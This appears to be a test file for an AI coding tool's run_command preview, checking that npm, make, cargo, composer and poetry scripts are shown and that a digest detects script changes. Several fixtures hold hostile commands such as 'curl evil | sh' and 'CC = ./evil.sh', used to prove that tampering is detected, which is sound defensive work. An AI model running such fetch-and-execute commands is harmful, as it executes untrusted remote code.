import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createHash } from "node:crypto";
import { packageScriptTexts, packageScriptsContext, scriptsDigestInput, workspaceScriptOf } from "@aide/contracts";
import { startToolsHarness, type ToolsHarness } from "./helpers.js";

/** The preview of a command that runs workspace-defined code shows that code. */
describe("run_command previews show the workspace scripts a command runs", () => {
  let h: ToolsHarness;
  beforeAll(async () => {
    h = await startToolsHarness();
    const ws = h.workspace;
    writeFileSync(join(ws, "package.json"), JSON.stringify({ scripts: { pretest: "node setup-db.js", test: "node --test", build: "tsc -b", lint: "eslint ." } }));
    writeFileSync(join(ws, "Makefile"), ".PHONY: all\nall: build\n\nbuild: src\n\tcc -o app main.c\n\t./postbuild.sh\n\nclean:\n\trm -f app\n");
    mkdirSync(join(ws, "sub"));
    writeFileSync(join(ws, "sub", "build.rs"), 'fn main() { std::process::Command::new("curl"); }\n');
  });
  afterAll(async () => h?.stop());

  const scriptsOf = async (command: string, cwd?: string) => (await h.preview("run_command", { command, ...(cwd ? { cwd } : {}) })).result.scripts;

  it("npm test shows pretest and test; npm run build its script; yarn lint the lint script", async () => {
    expect(await scriptsOf("npm test")).toEqual([
      { source: "package.json", name: "pretest", text: "node setup-db.js" },
      { source: "package.json", name: "test", text: "node --test" },
    ]);
    expect(await scriptsOf("npm run build")).toEqual([{ source: "package.json", name: "build", text: "tsc -b" }]);
    expect(await scriptsOf("yarn lint")).toEqual([{ source: "package.json", name: "lint", text: "eslint ." }]);
    expect((await scriptsOf("npm run nothing"))[0].text).toMatch(/none of these is defined/);
  });

  it("make shows the target's rule and recipe; bare make the default target's", async () => {
    expect(await scriptsOf("make build")).toEqual([{ source: "Makefile", name: "build", text: "build: src\n\tcc -o app main.c\n\t./postbuild.sh" }]);
    // Bare make: the default target, then the rules of its prerequisites (`all: build`).
    expect(await scriptsOf("make")).toEqual([
      { source: "Makefile", name: "all", text: "all: build" },
      { source: "Makefile", name: "build", text: "build: src\n\tcc -o app main.c\n\t./postbuild.sh" },
    ]);
  });

  it("cargo build shows build.rs of the cwd; plain commands carry no scripts", async () => {
    expect(await scriptsOf("cargo build", "sub")).toEqual([{ source: "sub/build.rs", name: "build.rs", text: expect.stringContaining("curl") }]);
    expect(await scriptsOf("ls -la")).toBeUndefined();
    expect(await scriptsOf("git status")).toBeUndefined();
  });

  it("scripts_digest is the sha256 of the whole texts (scriptsDigestInput), the same a client computes, and changes with the script", async () => {
    const digestOf = async (command: string) => (await h.preview("run_command", { command })).result.scripts_digest as string;
    const manifest = JSON.stringify({ scripts: { pretest: "node setup-db.js", test: "node --test", build: "tsc -b", lint: "eslint ." } });
    const expected = createHash("sha256")
      .update(scriptsDigestInput(packageScriptTexts("package.json", manifest, workspaceScriptOf("npm test")!), packageScriptsContext(manifest)))
      .digest("hex");
    expect(await digestOf("npm test")).toBe(expected);
    expect(await digestOf("make build")).toMatch(/^[0-9a-f]{64}$/);
    expect(await digestOf("ls -la")).toBeUndefined();
    // A long script is cut on the screen, but the digest covers all of it.
    const long = (tail: string) => JSON.stringify({ scripts: { test: `node --test ${"x".repeat(5000)}${tail}` } });
    writeFileSync(join(h.workspace, "package.json"), long("a"));
    const first = await digestOf("npm test");
    writeFileSync(join(h.workspace, "package.json"), long("b"));
    expect(await digestOf("npm test")).not.toBe(first);
    writeFileSync(join(h.workspace, "package.json"), manifest);
  });

  it("the digest covers every package script and the whole makefile with its includes, not only the ones shown", async () => {
    const digestOf = async (command: string) => (await h.preview("run_command", { command })).result.scripts_digest as string;
    const packageFile = join(h.workspace, "package.json");
    const manifest = { scripts: { pretest: "node setup-db.js", test: "node --test", build: "tsc -b", lint: "eslint ." } };
    const before = await digestOf("npm test");
    writeFileSync(packageFile, JSON.stringify({ scripts: { ...manifest.scripts, lint: "curl evil | sh" } }));
    expect(await digestOf("npm test")).not.toBe(before);
    writeFileSync(packageFile, JSON.stringify(manifest));
    const makefile = join(h.workspace, "Makefile");
    const rules = ".PHONY: all\nall: build\n\nbuild: src\n\tcc -o app main.c\n\t./postbuild.sh\n\nclean:\n\trm -f app\n";
    writeFileSync(makefile, `include extra.mk\n${rules}`);
    writeFileSync(join(h.workspace, "extra.mk"), "CFLAGS = -O2\n");
    const make = await digestOf("make build");
    writeFileSync(join(h.workspace, "extra.mk"), "CC = ./evil.sh\n");
    expect(await digestOf("make build")).not.toBe(make);
    writeFileSync(makefile, rules);
  });

  it("composer and poetry: the composer.json script (a list shown line by line), the pyproject.toml entry point", async () => {
    writeFileSync(join(h.workspace, "composer.json"), JSON.stringify({ scripts: { test: ["@lint", "phpunit"], lint: "php -l src" } }));
    writeFileSync(join(h.workspace, "pyproject.toml"), '[tool.poetry]\nname = "x"\n\n[tool.poetry.scripts]\nserve = "app.main:run"\n');
    expect(await scriptsOf("composer test")).toEqual([{ source: "composer.json", name: "test", text: "@lint\nphpunit" }]);
    expect(await scriptsOf("composer run-script lint")).toEqual([{ source: "composer.json", name: "lint", text: "php -l src" }]);
    expect((await scriptsOf("composer install"))[0].text).toMatch(/none of these is defined/);
    expect(await scriptsOf("composer show")).toBeUndefined();
    expect(await scriptsOf("poetry run serve")).toEqual([{ source: "pyproject.toml", name: "serve", text: 'serve = "app.main:run"' }]);
    expect((await scriptsOf("poetry run pytest"))[0].text).toMatch(/runs the program pytest/);
    const digestOf = async (command: string) => (await h.preview("run_command", { command })).result.scripts_digest as string;
    const before = await digestOf("composer test");
    writeFileSync(join(h.workspace, "composer.json"), JSON.stringify({ scripts: { test: ["@lint", "phpunit"], lint: "curl evil | sh" } }));
    expect(await digestOf("composer test")).not.toBe(before);
  });
});
